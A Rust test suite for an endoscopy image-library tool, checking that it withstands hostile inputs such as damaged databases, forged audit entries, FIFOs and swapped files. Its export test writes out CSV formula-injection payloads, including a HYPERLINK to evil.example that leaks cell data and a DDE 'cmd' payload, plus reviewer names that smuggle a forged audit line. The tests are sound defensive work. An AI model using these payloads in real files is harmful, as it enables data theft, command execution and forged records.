//! The library survives its users (the second hostile-input round): no sweep deletes what it
//! did not write, no command writes over the library, no forged audit line, no formula in an
//! export, no swapped image used, no write to a damaged database, frames the right way up,
//! label values checked, no hang on odd files. Each test reproduces the case through the
//! command line and checks the library byte-identical where it must be.

use crate::common;
use crate::hostile::library_with_cases;

use common::{import, png, run, state};
use endotwin::store::{OpenMode, Store, TargetKind};
use std::path::{Path, PathBuf};
use std::process::Command;

/// Every file of the library folder (database included) with its bytes' hash (a FIFO, device
/// or link: its kind).
pub(crate) fn files(lib: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    let mut stack = vec![lib.to_path_buf()];
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            let p = e.path();
            let kind = e.file_type().unwrap();
            if kind.is_dir() {
                stack.push(p);
            } else if !kind.is_file() {
                // A FIFO or device is named by kind, never opened (that would block).
                out.push((
                    p.strip_prefix(lib).unwrap().to_path_buf(),
                    format!("{kind:?}"),
                ));
            } else {
                let bytes = std::fs::read(&p).unwrap();
                out.push((
                    p.strip_prefix(lib).unwrap().to_path_buf(),
                    endotwin::store::content_hash(&bytes),
                ));
            }
        }
    }
    out.sort();
    out
}

/// The media files only (names and hashes).
fn media_files(lib: &Path) -> Vec<(PathBuf, String)> {
    files(lib)
        .into_iter()
        .filter(|(p, _)| p.starts_with("media"))
        .collect()
}

/// Runs `c`, killing it after `secs`: a hang fails the test instead of stalling the suite.
/// Its output is read while it runs (a child that fills a pipe nobody reads blocks, and
/// would be taken for a hang).
pub(crate) fn run_within(mut c: Command, secs: u64) -> common::Ran {
    use std::io::Read;
    use std::time::{Duration, Instant};
    let mut child = c
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let drain = |mut pipe: Box<dyn Read + Send>| {
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            let _ = pipe.read_to_end(&mut bytes);
            let _ = tx.send(String::from_utf8_lossy(&bytes).into_owned());
        });
        rx
    };
    let out = drain(Box::new(child.stdout.take().unwrap()));
    let err = drain(Box::new(child.stderr.take().unwrap()));
    let deadline = Instant::now() + Duration::from_secs(secs);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("the command hung for {secs} s");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    // The pipes close when the command exits, unless a process it started still holds them.
    let collect = |rx: std::sync::mpsc::Receiver<String>| {
        let left = deadline.saturating_duration_since(Instant::now()) + Duration::from_secs(5);
        rx.recv_timeout(left).unwrap_or_else(|_| {
            panic!("the command exited but a process it started still holds its output")
        })
    };
    common::Ran {
        code: status.code(),
        stdout: collect(out),
        stderr: collect(err),
    }
}

pub(crate) fn endotwin_cmd(lib: &Path, args: &[&str]) -> Command {
    let mut c = common::endotwin(lib);
    c.args(args);
    c
}

#[cfg(unix)]
pub(crate) fn mkfifo(path: &Path) {
    let ok = Command::new("mkfifo").arg(path).status().unwrap().success();
    assert!(ok, "mkfifo {}", path.display());
}

// ---- 1. an import never deletes a library's images ------------------------------------------

#[test]
fn an_import_beside_a_missing_or_empty_database_is_refused_and_deletes_no_image() {
    let (lib, src) = library_with_cases();
    png(&src.path().join("new/n.png"), 8, 8, 91);
    let media_before = media_files(lib.path());
    assert!(!media_before.is_empty());
    let db = lib.path().join("library.sqlite");
    let backup = std::fs::read(&db).unwrap();

    for damage in ["missing", "empty"] {
        match damage {
            "missing" => std::fs::remove_file(&db).unwrap(),
            _ => std::fs::write(&db, b"").unwrap(),
        }
        let r = import(lib.path(), "images", &src.path().join("new"), &[]);
        assert!(!r.ok(), "{damage}: {}", r.text());
        assert!(
            r.says("media/") && r.says("backup"),
            "{damage}: the refusal says what is wrong and what to do:\n{}",
            r.text()
        );
        assert_eq!(
            media_files(lib.path()),
            media_before,
            "{damage}: images lost"
        );
        assert_eq!(
            db.exists(),
            damage == "empty",
            "{damage}: no new database was made"
        );
        if damage == "empty" {
            assert_eq!(std::fs::read(&db).unwrap(), b"");
        }
    }
    std::fs::write(&db, &backup).unwrap();
    assert!(state(lib.path()).contains("## media"));
}

#[test]
fn restoring_a_backup_and_importing_keeps_the_images_added_since_and_check_names_them() {
    let (lib, src) = library_with_cases();
    let db = lib.path().join("library.sqlite");
    let backup = std::fs::read(&db).unwrap();
    png(&src.path().join("later/l1.png"), 12, 9, 120);
    png(&src.path().join("later/l2.png"), 12, 9, 121);
    let r = import(lib.path(), "images", &src.path().join("later"), &[]);
    assert!(r.ok(), "{}", r.text());
    let after_later = media_files(lib.path());

    // The department restores last night's database; the two newer images stay on disk.
    std::fs::write(&db, &backup).unwrap();
    png(&src.path().join("today/t.png"), 12, 9, 122);
    let r = import(lib.path(), "images", &src.path().join("today"), &[]);
    assert!(r.ok(), "{}", r.text());
    let now = media_files(lib.path());
    for f in &after_later {
        assert!(now.contains(f), "{} was deleted", f.0.display());
    }

    let r = run(endotwin_cmd(lib.path(), &["library", "check"]));
    assert!(!r.ok(), "{}", r.text());
    let unnamed = r
        .stdout
        .lines()
        .filter(|l| l.starts_with("unnamed:"))
        .count();
    assert_eq!(unnamed, 2, "the two images no row names:\n{}", r.text());
}

// ---- 2. no command writes over the library or an existing file ------------------------------

#[test]
fn an_export_never_writes_over_the_library_or_an_existing_file_without_force() {
    let (lib, _src) = library_with_cases();
    let before = files(lib.path());
    for target in ["library.sqlite", "library.sqlite-wal", "media/x.csv"] {
        let out = lib.path().join(target);
        let r =
            run(endotwin_cmd(lib.path(), &["--force", "labels", "export", "--out"]).arg_path(&out));
        assert!(
            !r.ok() && r.says("library's own file"),
            "{target}:\n{}",
            r.text()
        );
    }
    // From another library's command line, the library is still a library.
    let other = tempfile::tempdir().unwrap();
    let out = lib.path().join("library.sqlite");
    let mut c = common::endotwin(other.path());
    c.args(["labels", "export", "--out"]).arg(&out);
    let r = run(c);
    assert!(!r.ok(), "{}", r.text());
    assert_eq!(files(lib.path()), before, "the library changed");

    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("labels.csv");
    std::fs::write(&csv, b"keep me").unwrap();
    let r = run(endotwin_cmd(lib.path(), &["labels", "export", "--out"]).arg_path(&csv));
    assert!(!r.ok() && r.says("--force"), "{}", r.text());
    assert_eq!(std::fs::read(&csv).unwrap(), b"keep me");
    let r = run(endotwin_cmd(lib.path(), &["labels", "export", "--force", "--out"]).arg_path(&csv));
    assert!(r.ok(), "{}", r.text());
    assert!(std::fs::read_to_string(&csv).unwrap().starts_with("polyp,"));
}

trait ArgPath {
    fn arg_path(self, p: &Path) -> Command;
}

impl ArgPath for Command {
    fn arg_path(mut self, p: &Path) -> Command {
        self.arg(p);
        self
    }
}

// ---- 3. the audit trail cannot be forged ----------------------------------------------------

#[test]
fn a_reviewer_name_with_a_line_break_or_an_importers_prefix_is_refused() {
    let (lib, _src) = library_with_cases();
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("l.csv");
    std::fs::write(
        &csv,
        "polyp,histology,vienna_class\nbase-A,hyperplastic,1\n",
    )
    .unwrap();
    let forged = [
        "mallory\n2026-01-01T00:00:00Z  dr-smith  polyp base-A histology: carcinoma -> adenoma",
        "import:multiview --update-labels",
        " Import:folder",
        "eve\u{202E}tnerruc",
        "",
        &"x".repeat(65),
    ];
    let before = state(lib.path());
    for who in forged {
        let mut c = endotwin_cmd(lib.path(), &["labels", "import", "--apply", "--who", who]);
        c.arg(&csv);
        let r = run(c);
        assert!(!r.ok(), "accepted {who:?}:\n{}", r.text());
        assert_eq!(state(lib.path()), before, "{who:?} changed the library");
    }
    // The store refuses them whoever asks (the GUI's reviewer field included).
    let mut store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    let polyp = store.polyps().unwrap()[0].id;
    for who in forged {
        assert!(
            store
                .set_label(who, TargetKind::Polyp, polyp, "colour", Some("pale"))
                .is_err()
        );
    }
    drop(store);
    let mut c = endotwin_cmd(
        lib.path(),
        &["labels", "import", "--apply", "--who", "dr. Jane Doe"],
    );
    c.arg(&csv);
    assert!(run(c).ok());
    let r = run(endotwin_cmd(lib.path(), &["labels", "history"]));
    assert!(r.ok(), "{}", r.text());
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert!(
        lines
            .iter()
            .any(|l| l.contains("dr. Jane Doe") && l.contains("hyperplastic")),
        "{}",
        r.stdout
    );
    assert!(!r.stdout.contains("mallory") && !r.stdout.contains("dr-smith"));
}

// ---- 4. no formula in an export --------------------------------------------------------------

#[test]
fn an_exported_formula_is_neutralised_and_reads_back_to_the_same_value() {
    let (lib, _src) = library_with_cases();
    let mut store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    let polyp = store.polyps().unwrap()[0].id;
    let formulas = [
        (
            "colour",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"pale\")",
        ),
        ("surface", "+1+cmd|' /C calc'!A0"),
        ("tags", "@SUM(1+1)"),
    ];
    for (key, value) in formulas {
        store
            .set_label("dr. Doe", TargetKind::Polyp, polyp, key, Some(value))
            .unwrap();
    }
    let stored: Vec<Option<String>> = formulas
        .iter()
        .map(|(k, _)| store.current_label(TargetKind::Polyp, polyp, k).unwrap())
        .collect();
    drop(store);
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("labels.csv");
    let r = run(endotwin_cmd(lib.path(), &["labels", "export", "--out"]).arg_path(&csv));
    assert!(r.ok(), "{}", r.text());
    let text = std::fs::read_to_string(&csv).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a spreadsheet would run the cell {cell:?}"
            );
        }
    }
    // Reading the export back changes nothing: the cells are the same values.
    let mut c = endotwin_cmd(lib.path(), &["labels", "import"]);
    c.arg(&csv);
    let r = run(c);
    assert!(r.ok() && r.says("no changes"), "{}", r.text());
    let store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    for ((k, _), before) in formulas.iter().zip(stored) {
        assert_eq!(
            store.current_label(TargetKind::Polyp, polyp, k).unwrap(),
            before
        );
    }
}

// ---- 5. a swapped image is refused; `library check` names it -------------------------------

#[test]
fn a_view_whose_file_was_swapped_is_refused_by_name_and_check_says_so() {
    let (lib, _src) = library_with_cases();
    let store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    let polyp = store.polyps().unwrap()[0].id;
    let views = store.polyp_views(polyp).unwrap();
    assert!(views.len() >= 2);
    // Healthy: the view loads, the check passes.
    assert!(endotwin::twins::load_view(&store, &views[0]).is_ok());
    let r = run(endotwin_cmd(lib.path(), &["library", "check"]));
    assert!(r.ok() && r.says("is whole"), "{}", r.text());
    // Overwrite view 1's file with view 2's bytes.
    let other = std::fs::read(store.media_path(&views[1])).unwrap();
    std::fs::write(store.media_path(&views[0]), &other).unwrap();
    let Err(err) = endotwin::twins::load_view(&store, &views[0]) else {
        panic!("a swapped view was read");
    };
    let err = err.to_string();
    assert!(
        err.contains(&format!("media {}", views[0].id)) && err.contains("changed"),
        "{err}"
    );
    drop(store);
    let r = run(endotwin_cmd(lib.path(), &["library", "check"]));
    assert!(!r.ok(), "{}", r.text());
    assert!(
        r.stdout
            .lines()
            .any(|l| l.starts_with("changed:") && l.contains(&views[0].rel_path)),
        "{}",
        r.text()
    );
}

// ---- 6. a damaged database is not written to ----------------------------------------------

#[test]
fn a_damaged_database_refuses_writes_and_says_so_in_info_and_check() {
    let (lib, src) = library_with_cases();
    let db = lib.path().join("library.sqlite");
    // An index that no longer matches its table: what a torn page or a bad copy leaves.
    crate::hostile::damage_an_index(&db);
    let before = files(lib.path());
    png(&src.path().join("more/m.png"), 8, 8, 77);
    let r = import(lib.path(), "images", &src.path().join("more"), &[]);
    assert!(
        !r.ok() && r.says("damaged") && r.says("backup"),
        "{}",
        r.text()
    );
    let csv = src.path().join("l.csv");
    std::fs::write(&csv, "polyp,histology\nbase-A,hyperplastic\n").unwrap();
    let mut c = endotwin_cmd(
        lib.path(),
        &["labels", "import", "--apply", "--who", "dr. Doe"],
    );
    c.arg(&csv);
    let r = run(c);
    assert!(!r.ok() && r.says("damaged"), "{}", r.text());
    assert_eq!(
        files(lib.path()),
        before,
        "a damaged library was written to"
    );
    let r = run(endotwin_cmd(lib.path(), &["info"]));
    assert!(r.says("DAMAGED"), "{}", r.text());
    let r = run(endotwin_cmd(lib.path(), &["library", "check"]));
    assert!(!r.ok() && r.stdout.contains("database:"), "{}", r.text());
}

// ---- 7. frames the right way up ------------------------------------------------------------

/// A JPEG of `w` x `h` whose EXIF says how to turn it (orientation 1-8).
fn jpeg_with_orientation(path: &Path, w: u32, h: u32, orientation: u16) {
    let img = image::RgbImage::from_fn(w, h, |x, _| image::Rgb([(x * 20) as u8, 80, 160]));
    crate::common::jpeg_with_exif_orientation(path, &img, orientation);
}

#[test]
fn a_jpeg_turned_by_its_exif_orientation_is_stored_the_right_way_up() {
    let lib = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    jpeg_with_orientation(&src.path().join("in/upright.jpg"), 32, 16, 1);
    jpeg_with_orientation(&src.path().join("in/sideways.jpg"), 32, 16, 6);
    jpeg_with_orientation(&src.path().join("in/upside.jpg"), 32, 16, 3);
    let r = import(lib.path(), "images", &src.path().join("in"), &[]);
    assert!(r.ok(), "{}", r.text());
    let store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    let exam = store.examinations().unwrap()[0].id;
    let mut sizes: Vec<(String, u32, u32)> = store
        .loose_frames(exam)
        .unwrap()
        .into_iter()
        .map(|m| (m.source_path.clone(), m.width, m.height))
        .collect();
    sizes.sort();
    let size_of = |name: &str| {
        let s = sizes.iter().find(|s| s.0.ends_with(name)).unwrap();
        (s.1, s.2)
    };
    assert_eq!(size_of("upright.jpg"), (32, 16));
    assert_eq!(size_of("sideways.jpg"), (16, 32), "{sizes:?}");
    assert_eq!(size_of("upside.jpg"), (32, 16));
    // Upside down: the left column (dark) is now on the right.
    let d = endotwin::data::images::decode_file(&src.path().join("in/upside.jpg")).unwrap();
    let rgb = d.image.to_rgb8();
    assert!(rgb.get_pixel(31, 8)[0] < rgb.get_pixel(0, 8)[0]);
}

#[test]
fn a_video_with_a_quarter_turn_display_matrix_is_imported_upright() {
    let Some(ffmpeg) = crate::video::ffmpeg() else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain.mp4");
    let out = Command::new(&ffmpeg)
        .args([
            "-v",
            "error",
            "-y",
            "-f",
            "lavfi",
            "-i",
            "testsrc=size=64x32:rate=5",
        ])
        .args(["-frames:v", "5", "-c:v", "libx264", "-pix_fmt", "yuv420p"])
        .arg(&plain)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let turned = dir.path().join("turned.mp4");
    let out = Command::new(&ffmpeg)
        .args(["-v", "error", "-y", "-i"])
        .arg(&plain)
        .args(["-c", "copy", "-metadata:s:v:0", "rotate=90"])
        .arg(&turned)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lib = tempfile::tempdir().unwrap();
    let r = import(lib.path(), "video", &turned, &[]);
    assert!(r.ok(), "{}", r.text());
    let store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    let video = &store.videos().unwrap()[0];
    let frames = store.video_frames(video.id).unwrap();
    let first = &frames[0].1;
    assert_eq!((first.width, first.height), (32, 64), "stored sideways");

    // A container whose index lists no frame count (Matroska) still gives the progress bar
    // a length: duration x frame rate.
    let mkv = dir.path().join("long.mkv");
    let out = Command::new(&ffmpeg)
        .args(["-v", "error", "-y", "-i"])
        .arg(&plain)
        .args(["-c", "copy"])
        .arg(&mkv)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let tools = endotwin::data::import::video::find_ffmpeg().unwrap();
    let info = endotwin::data::import::video::probe(&tools, &mkv).unwrap();
    assert_eq!(info.frames, None);
    let estimate = info
        .estimated_frames
        .expect("an estimate from the duration");
    assert!((4..=6).contains(&estimate), "{estimate}");
}

// ---- 8. label values are checked -----------------------------------------------------------

#[test]
fn label_values_outside_their_vocabulary_or_one_line_are_skipped_by_name() {
    let (lib, _src) = library_with_cases();
    let dir = tempfile::tempdir().unwrap();
    let big = "x".repeat(1 << 20);
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "banana",
            "polyp,histology\nbase-A,banana\n".into(),
            "histology",
        ),
        (
            "multi-line",
            "polyp,colour\nbase-A,\"pale\nhistology: carcinoma\"\n".into(),
            "U+000A",
        ),
        (
            "rtl",
            "polyp,colour\nbase-A,pale\u{202E}der\n".into(),
            "U+202E",
        ),
        (
            "json",
            "polyp,surface\nbase-A,\"{\"\"a\"\": 1}\"\n".into(),
            "JSON",
        ),
        (
            "1 MB",
            format!("polyp,surface\nbase-A,{big}\n"),
            "at most 200",
        ),
        ("paris", "polyp,paris\nbase-A,0-IV\n".into(), "Paris"),
        (
            "location",
            "polyp,location\nbase-A,kitchen\n".into(),
            "location",
        ),
    ];
    let before = state(lib.path());
    for (name, text, says) in cases {
        let csv = dir.path().join("l.csv");
        std::fs::write(&csv, text).unwrap();
        let mut c = endotwin_cmd(
            lib.path(),
            &["labels", "import", "--apply", "--who", "dr. Doe"],
        );
        c.arg(&csv);
        let r = run(c);
        assert!(
            !r.ok() && r.says(says) && r.says("base-A"),
            "{name}:\n{}",
            r.text()
        );
        assert_eq!(state(lib.path()), before, "{name}: stored");
    }
    // A JSON object in a JSONL labels file, and two columns of one name.
    let jsonl = dir.path().join("l.jsonl");
    std::fs::write(
        &jsonl,
        "{\"polyp\": \"base-A\", \"labels\": {\"colour\": {\"x\": 1}}}\n",
    )
    .unwrap();
    let mut c = endotwin_cmd(
        lib.path(),
        &["labels", "import", "--apply", "--who", "dr. Doe"],
    );
    c.arg(&jsonl);
    let r = run(c);
    assert!(!r.ok() && r.says("JSON object"), "{}", r.text());
    let csv = dir.path().join("twice.csv");
    std::fs::write(&csv, "polyp,size_mm,size_mm\nbase-A,4,40\n").unwrap();
    let mut c = endotwin_cmd(
        lib.path(),
        &["labels", "import", "--apply", "--who", "dr. Doe"],
    );
    c.arg(&csv);
    let r = run(c);
    assert!(
        !r.ok() && r.says("`size_mm` is given twice"),
        "{}",
        r.text()
    );
    assert_eq!(state(lib.path()), before);
    // A pathology.csv of a multi-view import with two columns of one name is refused too.
    let src = tempfile::tempdir().unwrap();
    png(&src.path().join("B/1.png"), 10, 10, 200);
    std::fs::write(
        src.path().join("pathology.csv"),
        "polyp,histology,size_mm,size_mm\nB,adenoma,4,40\n",
    )
    .unwrap();
    let r = import(lib.path(), "multiview", src.path(), &[]);
    assert!(!r.ok() && r.says("size_mm"), "{}", r.text());
    assert_eq!(state(lib.path()), before);
}

// ---- 9. no hang, no runaway memory -----------------------------------------------------------

#[cfg(unix)]
#[test]
fn fifos_devices_and_a_silent_ffmpeg_are_refused_without_a_hang() {
    let (lib, src) = library_with_cases();
    let before = state(lib.path());
    // A FIFO given as the query image.
    let fifo = src.path().join("query.png");
    mkfifo(&fifo);
    let mut c = endotwin_cmd(lib.path(), &["twins"]);
    c.arg(&fifo);
    let r = run_within(c, 60);
    assert!(!r.ok() && r.says("not a regular file"), "{}", r.text());
    // A FIFO inside an import folder is named and counted, not waited on.
    let folder = src.path().join("withfifo");
    png(&folder.join("ok.png"), 8, 8, 66);
    mkfifo(&folder.join("pipe.png"));
    let r = run_within(
        endotwin_cmd(lib.path(), &["import", "images"]).arg_path(&folder),
        60,
    );
    assert!(
        r.ok() && r.says("pipe.png") && r.says("not a regular file"),
        "{}",
        r.text()
    );
    // The twin model's weights linked to /dev/zero: refused before a byte is read.
    let models = tempfile::tempdir().unwrap();
    let shipped = endotwin::default_models_dir();
    std::fs::copy(
        shipped.join("twin-image.json"),
        models.path().join("twin-image.json"),
    )
    .unwrap();
    std::os::unix::fs::symlink("/dev/zero", models.path().join("twin-image.bpk")).unwrap();
    let mut c = endotwin_cmd(lib.path(), &["twins", "--models"]);
    c.arg(models.path()).arg(src.path().join("base/A/1.png"));
    let r = run_within(c, 60);
    assert!(
        !r.ok() && r.says("twin-image.bpk") && r.says("not a regular file"),
        "{}",
        r.text()
    );
    // An ffmpeg that never answers.
    let tools = tempfile::tempdir().unwrap();
    for name in ["ffmpeg", "ffprobe"] {
        let p = tools.path().join(name);
        std::fs::write(&p, "#!/bin/sh\nexec sleep 600\n").unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let video = src.path().join("rec.mp4");
    std::fs::write(&video, b"\0\0\0\x18ftypmp42 not really").unwrap();
    let mut c = endotwin_cmd(lib.path(), &["import", "video"]);
    c.arg(&video)
        .env("ENDOTWIN_FFMPEG", tools.path().join("ffmpeg"))
        .env("ENDOTWIN_TOOL_TIMEOUT_S", "2");
    let r = run_within(c, 60);
    assert!(
        !r.ok() && r.says("did not answer within 2 s"),
        "{}",
        r.text()
    );
    // The FIFO folder's one good image came in; the pipe did not; nothing else changed.
    assert_ne!(state(lib.path()), before);
    let store = Store::open(lib.path(), OpenMode::Existing).unwrap();
    let sources: Vec<String> = store
        .examinations()
        .unwrap()
        .into_iter()
        .flat_map(|e| store.loose_frames(e.id).unwrap())
        .map(|m| m.source_path)
        .collect();
    assert_eq!(
        sources.iter().filter(|s| s.ends_with("ok.png")).count(),
        1,
        "{sources:?}"
    );
    assert!(
        !sources
            .iter()
            .any(|s| s.contains("pipe.png") || s.contains("rec.mp4"))
    );
}

#[test]
fn impossible_demo_sizes_are_refused_before_anything_is_made() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("demo");
    let mut c = Command::new(env!("CARGO_BIN_EXE_endotwin"));
    c.args(["demo", "--polyps", "1000000000", "--out"])
        .arg(&out);
    let r = run_within(c, 30);
    assert!(!r.ok() && r.says("--polyps 1000000000"), "{}", r.text());
    assert!(!out.exists());
}

// ---- 10. smaller ---------------------------------------------------------------------------

#[test]
fn an_empty_or_root_library_path_and_a_date_that_is_no_date_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    png(&dir.path().join("i/a.png"), 8, 8, 3);
    let mut c = Command::new(env!("CARGO_BIN_EXE_endotwin"));
    c.env("ENDOTWIN_LIBRARY", "")
        .current_dir(dir.path())
        .args(["import", "images"])
        .arg(dir.path().join("i"));
    let r = run(c);
    assert!(!r.ok() && r.says("ENDOTWIN_LIBRARY"), "{}", r.text());
    assert!(!dir.path().join("library.sqlite").exists());
    let root_had_one = Path::new("/library.sqlite").exists();
    let mut c = Command::new(env!("CARGO_BIN_EXE_endotwin"));
    c.args(["--library", "/", "import", "images"])
        .arg(dir.path().join("i"));
    let r = run(c);
    assert!(!r.ok() && r.says("root"), "{}", r.text());
    assert_eq!(Path::new("/library.sqlite").exists(), root_had_one);

    let (lib, _src) = library_with_cases();
    let r = run(endotwin_cmd(
        lib.path(),
        &["labels", "history", "--since", "yesterday"],
    ));
    assert!(
        !r.ok() && r.says("'yesterday' is not a UTC date"),
        "{}",
        r.text()
    );
    let r = run(endotwin_cmd(
        lib.path(),
        &["labels", "history", "--since", "2026-11-25"],
    ));
    assert!(r.ok(), "{}", r.text());
}

#[test]
fn a_ruled_out_finding_is_not_named_and_an_unknown_one_is_said_to_be_unknown() {
    let lib = tempfile::tempdir().unwrap();
    let r = run(endotwin_cmd(
        lib.path(),
        &["captions", "refine", "bleeding: none"],
    ));
    assert!(r.ok(), "{}", r.text());
    assert_eq!(r.stdout.lines().collect::<Vec<_>>(), ["normal", "normal"]);
    assert!(!r.says("nothing recognised"));
    for text in ["", "Schleimhaut unauffällig"] {
        let r = run(endotwin_cmd(lib.path(), &["captions", "refine", text]));
        assert!(
            r.ok() && r.stderr.contains("nothing recognised"),
            "{text:?}: {}",
            r.text()
        );
    }
}

#[test]
fn odd_but_valid_jpegs_import_and_unsupported_codings_are_named_not_corrupt() {
    let lib = tempfile::tempdir().unwrap();
    let src = tempfile::tempdir().unwrap();
    let img = image::RgbImage::from_fn(16, 12, |x, y| image::Rgb([x as u8 * 9, y as u8 * 9, 50]));
    let mut jpeg = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut jpeg, 90)
        .encode_image(&img)
        .unwrap();
    // 10 kB after the end-of-image marker (a recorder's padding).
    let mut padded = jpeg.clone();
    padded.extend(std::iter::repeat_n(0u8, 10_000));
    std::fs::create_dir_all(src.path().join("ok")).unwrap();
    std::fs::write(src.path().join("ok/padded.jpg"), &padded).unwrap();
    let r = import(lib.path(), "images", &src.path().join("ok"), &[]);
    assert!(r.ok() && r.says("1 media added"), "{}", r.text());
    // The same frame declared arithmetic-coded (SOF9) and lossless (SOF3).
    let sof = jpeg.windows(2).position(|w| w == [0xFF, 0xC0]).unwrap();
    std::fs::create_dir_all(src.path().join("odd")).unwrap();
    for (name, marker, says) in [
        ("arith.jpg", 0xC9, "arithmetic"),
        ("lossless.jpg", 0xC3, "lossless"),
    ] {
        let mut bytes = jpeg.clone();
        bytes[sof + 1] = marker;
        std::fs::write(src.path().join("odd").join(name), &bytes).unwrap();
        let d = endotwin::data::images::decode_bytes(bytes);
        let err = d.err().expect("refused").to_string();
        assert!(
            err.contains("unsupported JPEG coding") && err.contains(says),
            "{err}"
        );
        assert!(!err.contains("corrupt"), "{err}");
    }
    let r = import(lib.path(), "images", &src.path().join("odd"), &[]);
    assert!(!r.ok() && r.says("unsupported JPEG coding"), "{}", r.text());
}

#[test]
fn cvc_clinicdb_tiffs_decode_as_the_colour_frames_they_are() {
    let dir = crate::common::realdata("cvc-clinicdb-21-29/Original");
    let Some(dir) = dir else { return };
    let path = dir.join("429.tif");
    let d = endotwin::data::images::decode_file(&path).expect("the release's TIFF decodes");
    let rgb = d.image.to_rgb8();
    assert_eq!(rgb.dimensions(), (384, 288));
    // Colour, not grey: the channels differ, and mucosa is redder than it is blue.
    let (mut r, mut b, mut differ) = (0u64, 0u64, 0usize);
    for p in rgb.pixels() {
        r += p[0] as u64;
        b += p[2] as u64;
        differ += usize::from(p[0] != p[1] || p[1] != p[2]);
    }
    assert!(differ > rgb.pixels().len() / 2, "decoded as grey");
    assert!(r > b, "channel order");
    // The first pixel as the TIFF holds it (little-endian, uncompressed, RGB interleaved):
    // StripOffsets (tag 273) points at the list of strip offsets.
    let bytes = std::fs::read(&path).unwrap();
    let u16_at = |at: usize| u16::from_le_bytes(bytes[at..at + 2].try_into().unwrap()) as usize;
    let u32_at = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
    let ifd = u32_at(4);
    let entry = (0..u16_at(ifd))
        .map(|e| ifd + 2 + 12 * e)
        .find(|&at| u16_at(at) == 273)
        .unwrap();
    let strip = u32_at(u32_at(entry + 8));
    assert_eq!(
        rgb.get_pixel(0, 0).0,
        [bytes[strip], bytes[strip + 1], bytes[strip + 2]]
    );
}
